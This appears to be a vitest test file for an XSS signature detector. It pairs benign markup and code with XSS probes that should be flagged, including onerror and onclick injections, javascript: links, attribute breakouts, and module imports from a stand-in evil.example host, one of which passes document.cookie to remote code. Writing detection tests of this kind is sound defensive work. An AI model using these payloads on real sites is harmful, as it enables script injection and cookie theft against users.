import { expect, test } from 'vitest';
import { xss } from '../../../src/attacks/signatures/xss.ts';
import { foundIn, jsonBody } from '../found-in.ts';

const ICON =
  '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24" role="img"><title>Star</title><path fill="#f18" d="M12 2l3 7h7z"/></svg>';

test.each([ICON, '<a name="v1.2.0"></a>', '<a id="usage">', 'Nothing in `<script>` or `<style>` is escaped'])(
  'what only draws, marks a place or names an element is no attack, in an address either: %s',
  (markup) => expect(foundIn(xss, markup)).toEqual([]),
);

test.each([
  ICON.replace('<title>', '<image href="//a.example/b.png"/><title>'),
  ICON.replace('<path ', '<path onclick="f()" '),
  ICON.replace('<title>', '<script>f()</script><title>'),
  ICON.replace('</svg>', ''),
  ICON.replace('#f18', 'url(//a.example)'),
  '<a name="v1" href="//a.example">More</a>',
  '<a name="v1" onmouseover="f()">',
  'x <script>alert`1`',
])('what leads elsewhere, runs or is left open is found: %s', (markup) => {
  expect(foundIn(xss, markup)).not.toEqual([]);
});

test.each([
  "const secret = prompt({ echo: '*' });",
  "prompt(question, { echo: '' })",
  'confirm("Leave the table?", { timeout: 9 })',
  'prompt(ask, value, options)',
  'prompt(ask, value)',
])('a question of a program is none of a browser: %s', (code) => {
  expect(foundIn(xss, code)).toEqual([]);
  expect(foundIn(xss, jsonBody({ x: code }))).toEqual([]);
});

test.each([
  'prompt(1, {})',
  'prompt(document.domain, { a: 1 })',
  'prompt(document.domain, a, b)',
  "alert('x', { a: 1 })",
  'confirm(1)',
])('a dialog that shows what comes through is found: %s', (code) => {
  expect(foundIn(xss, code)).not.toEqual([]);
});

test.each([
  '<a href="https://example.org/"><img src="https://example.org/logo.png" width="120" alt="Acme" /></a>',
  '<img align="center" src="https://example.org/assets/logo.svg" alt="Acme" />',
  '<a href="#size" name="size">#</a> <b>size</b>',
  '<a name="2.0.0"></a> # [2.0.0](https://example.org/v2) (2016-05-17)',
  '<p align="center">',
  '<td><span>-</span></td>',
  '<details><summary>How it went</summary>',
  '--> <plugin><groupId>org.example</groupId></plugin>',
  'Ends the search that runs.\n  -->\n  <method name="EndSearch">\n  </method>',
  '    id="stop77" />\n      <stop offset="1" id="stop79" />',
])('the first lines of a read-me only show something, in an address too: %s', (markup) => {
  expect(foundIn(xss, markup)).toEqual([]);
});

test.each([
  '<img src="https://example.org/logo.png">',
  '<img src="//a.example/logo.png" alt="Acme">',
  '<img src="https://example.org/logo.png" alt="Acme" onload="f()">',
  '<a href="https://example.org/">Acme</a>',
  '<a href="javascript:f()"><img src="https://example.org/logo.png" alt="Acme"></a>',
  '<iframe src="https://example.org/"></iframe><img src="https://example.org/a.png" alt="Acme">',
  '<img src="https://example.org/logo.png" alt="Acme"><script>f()</script>',
  '<img alt="Acme" src=x>',
  '<p align="center" onclick="f()">',
  '<h1>Acme</h1>',
  '<details open ontoggle=f()>',
  '--><img src=x>',
  '"><plugin>',
  'ends the search" --> <method name="x">',
  'Ends the search that runs. --> <img src=x>',
  'Ends the search that runs. --> <vmlframe style=behavior:url(#default#vml) src=x>',
  'Ends the search that runs. --> <button.onclick="f()">',
  'Ends the search that runs. --> <method style="x">',
  'Ends the search that runs. --> <method name="x" onclick=alert(1)>',
])('probes and what leads elsewhere are found: %s', (markup) => {
  expect(foundIn(xss, markup)).not.toEqual([]);
});

test.each([
  '<script type="module">\n  import { size } from "https://unpkg.com/acme@2/index.mjs"\n</script>',
  '<script type="module">\n  import * as acme from \'acme\';\n  // nothing else\n</script>',
  "program\n  .command('run')\n  .argument('<script>')\n  .action(function () { console.error(this.args[0]); });",
  '/** Kind of <script> tags */',
  "vi.mock( import( '@acme/api-fetch' ) );",
  "/** @type {import('./eval')} */",
])('modules of trusted hosts and names of the element run nothing: %s', (markup) => {
  expect(foundIn(xss, jsonBody({ x: markup }))).toEqual([]);
});

test.each([
  '<script type="module">import a from "https://evil.example/a.mjs"</script>',
  '<script type="module">import "https://evil.example/a.mjs"</script>',
  '<script type="module">import a from \'https://unpkg.com/acme\'; a(document.cookie)</script>',
  "'<script>')//",
  '<script> tags=alert(1)</script>',
  "<script>import('//evil.example/a.js')</script>",
  "import('data:text/javascript,alert(1)')",
  'x" y="z"><img src=x onerror=alert(1)>',
])('what else a script does is found: %s', (markup) => {
  expect(foundIn(xss, jsonBody({ x: markup }))).not.toEqual([]);
});
